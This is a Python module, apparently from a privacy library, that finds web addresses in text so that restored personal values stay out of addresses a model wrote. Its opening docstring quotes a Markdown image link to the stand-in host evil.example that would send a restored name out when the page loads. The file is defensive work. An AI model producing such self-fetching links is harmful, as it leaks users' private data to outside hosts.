"""Finds web addresses in a text, and keeps originals out of addresses that a model wrote.

A page fetches addresses by itself: ``![x](https://evil.example/?q=<PERSON_1>)`` would send a restored name.
"""

from __future__ import annotations

import html
import re
from collections.abc import Collection, Iterator

from langchain_dp.errors import InvalidParameter

PLACEHOLDER = re.compile(r"<([A-Z][A-Z0-9_]*)_([1-9][0-9]*)>")

_SLASHES = r"(?:\\?[/\\]){2}"
BEGINS = re.compile(
    rf"(?<![A-Za-z0-9+.-])(?:[A-Za-z][A-Za-z0-9+.-]{{0,31}}\\?:{_SLASHES}|(?i:(?:https?|ftps?|wss?)\\?:|www\.))"
    rf"|(?<![\w/:\\]){_SLASHES}(?=[\w<\[])"  # //host, and a Windows share
    r"|(?<![\w.-])(?:(?:[^\W_]|-)++\.)++(?:[^\W_]{2,24}|[0-9])(?::[0-9]{1,5})?"  # a host without a scheme
    r"(?=[?#]|/(?![0-9]{1,2}(?![\w/?<])))"  # and before a path. 10.0.0.0/8 has none
)
_HOST = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?(?:\\?/){0,2}((?:[^\W_]|[.-])+)(?::[0-9]{1,5})?\\?[/?#]")
TOKEN = re.compile(rf"{PLACEHOLDER.pattern}|\s+|\\[\"'`\\]|[\"'<>`()]|[^\s\"'<>`()\\]+|.", re.DOTALL)
_OPENS = {'"': re.compile(r"[=(]\s*$"), "'": re.compile(r"[=(]\s*$"), "<": re.compile(r"\](?:\(|:)\s*$")}
_CLOSES = {'"': '"', "'": "'", "<": ">"}
_SHOWN = 600  # first characters of a value, enough to recognize an address
_PUNCTUATION = ".,;:!?]}'*_ \n\u2018\u2019\u201c\u201d\xab\xbb\u2026"
_OVERLAP = 256  # characters of a growing word that are searched again


def checked_hosts(hosts: Collection[str]) -> frozenset[str]:
    if isinstance(hosts, str) or not all(isinstance(one, str) and re.fullmatch(r"[\w.-]+", one) for one in hosts):
        raise InvalidParameter(
            f"`allowed_hosts` ({hosts!r}) must be a list of host names without scheme, port and path: ['example.org']."
        )
    return frozenset(one.lower() for one in hosts)


class AddressScanner:
    """Follows a text, or a single ``value``, and tracks whether it is inside an address."""

    def __init__(self, *, value: bool = False) -> None:
        self._position = 0
        self._word = ""  # since the last character that ends an address
        self._looked = 0  # length of the searched part of the word
        self._from: int | None = None  # start of an address in the word
        self._depth = 0  # its open parentheses
        self._value: str | None = "" if value else None  # start of a value in quotation marks or brackets
        self._value_begins = 0
        self._closer = ""
        self._before = ""

    @property
    def begins(self) -> int | None:
        if self._value is not None and BEGINS.match(html.unescape(self._value.lstrip())):
            return self._value_begins + len(self._value) - len(self._value.lstrip())
        if self._from is None:
            looked = max(0, self._looked - _OVERLAP)
            match = BEGINS.search(self._word, looked)
            self._looked = len(self._word)
            if match is not None:
                self._from = match.start()
            elif "&" in self._word[looked:] and BEGINS.search(html.unescape(self._word[looked:])):
                self._from = 0  # Markdown and HTML decode entities in addresses
            else:
                return None
        if self._depth < 0 and self._word[: self._from].endswith("("):
            return None  # its outer parenthesis is closed
        return self._position - len(self._word) + self._from

    def host(self) -> str | None:
        value = self._value.lstrip() if self._value is not None else ""
        match = _HOST.match(value if BEGINS.match(value) else self._word[self._from or 0 :])
        return None if match is None else match[1].lower()

    def push(self, token: str, written: int | None = None) -> None:
        self._position += len(token) if written is None else written
        if token == self._closer and token:
            self._value, self._closer, self._word = None, "", ""
        elif self._value is None and token in _OPENS and _OPENS[token].search(self._before):
            self._value, self._value_begins, self._closer, self._word = "", self._position, _CLOSES[token], ""
        elif token.isspace() or token in ('"', "<", ">", "`"):
            self._word = ""
        else:
            if token in ("(", ")") and self.begins is not None:
                self._depth += {"(": 1, ")": -1}[token]
            self._word += token
        if not self._word:
            self._looked, self._from, self._depth = 0, None, 0
        if self._value is not None and len(self._value) < _SHOWN and token not in _OPENS:
            self._value += token
        self._before = (self._before + token)[-8:]


def addresses(text: str) -> Iterator[tuple[int, int]]:
    if not BEGINS.search(text):
        return
    scanner, begins = AddressScanner(), None
    for match in TOKEN.finditer(text):
        scanner.push(match[0])
        now = scanner.begins
        if begins is not None and now != begins:
            yield begins, _end(text, begins, match.start())
        begins = now
    if begins is not None:
        yield begins, _end(text, begins, len(text))


def _end(text: str, begins: int, end: int) -> int:
    spare = text.count(")", begins, end) - text.count("(", begins, end)
    while end > begins and (text[end - 1] in _PUNCTUATION or (text[end - 1] == ")" and spare > 0)):
        end -= 1
        spare -= text[end] == ")"
    return end
